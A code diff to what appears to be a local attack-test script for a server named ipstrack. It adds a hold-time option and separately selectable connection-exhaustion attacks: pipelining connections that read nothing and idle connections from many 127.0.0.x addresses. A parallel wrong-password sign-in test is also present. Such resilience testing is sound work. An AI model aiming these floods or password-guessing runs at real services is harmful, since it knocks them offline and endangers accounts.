@@ -35,7 +35,8 @@ ap.add_argument("--real", required=True)
 ap.add_argument("--target-account", default="lead", help="the account whose password is guessed (not the real user's)")
 ap.add_argument("--password", default="ipstrack-demo")
 ap.add_argument("--token", default="", help="an API token of --attacker (ipstrack user token)")
-ap.add_argument("--only", default="", help="attacks to run, e.g. 1,5,6")
+ap.add_argument("--only", default="", help="attacks to run, e.g. 1,5,6 or 1c")
+ap.add_argument("--hold", type=int, default=15, help="seconds attack 1 holds its connections")
 ap.add_argument("--markdown", default="")
 ap.add_argument("--label", default="")
 A = ap.parse_args()
@@ -333,11 +334,13 @@ def pipelining(n, sources, hold, cookie_hdr):
         for fd, ev in p.poll(0):
             closed.setdefault(fd, now())
         time.sleep(0.05)
+    # what the server had sent when the attack ended (at most 1 MB a
+    # connection: it may go on answering the requests still queued)
     statuses = collections.Counter()
     for s in socks:
         data = b""
         try:
-            while True:
+            while len(data) < 1 << 20:
                 d = s.recv(1 << 20)
                 if not d:
                     break
@@ -444,15 +447,19 @@ def main():
     time.sleep(1)
     print("baseline memory:", mem())
 
-    if want("1"):
+    H = A.hold
+    if want("1") or want("1a"):
         attack("1a. 256 pipelining connections from 127.0.0.1 that read nothing",
-               lambda: pipelining(256, [ATTACK_SRC], 15, es))
+               lambda: pipelining(256, [ATTACK_SRC], H, es))
+    if want("1") or want("1b"):
         attack("1b. 768 idle connections from 127.0.0.1",
-               lambda: idle(768, [ATTACK_SRC], 15))
+               lambda: idle(768, [ATTACK_SRC], H))
+    if want("1") or want("1c"):
         attack("1c. 256 pipelining connections that read nothing, 32 from each of 8 addresses (127.0.0.10-17)",
-               lambda: pipelining(256, [f"127.0.0.{10+i}" for i in range(8)], 15, es))
+               lambda: pipelining(256, [f"127.0.0.{10+i}" for i in range(8)], H, es))
+    if want("1") or want("1d"):
         attack("1d. 768 idle connections, 32 from each of 24 addresses (127.0.0.20-43)",
-               lambda: idle(768, [f"127.0.0.{20+i}" for i in range(24)], 15))
+               lambda: idle(768, [f"127.0.0.{20+i}" for i in range(24)], H))
 
     if want("2"):
         attack(f"2a. 64 parallel wrong-password sign-ins to one account ({A.target_account}), for 10 s",
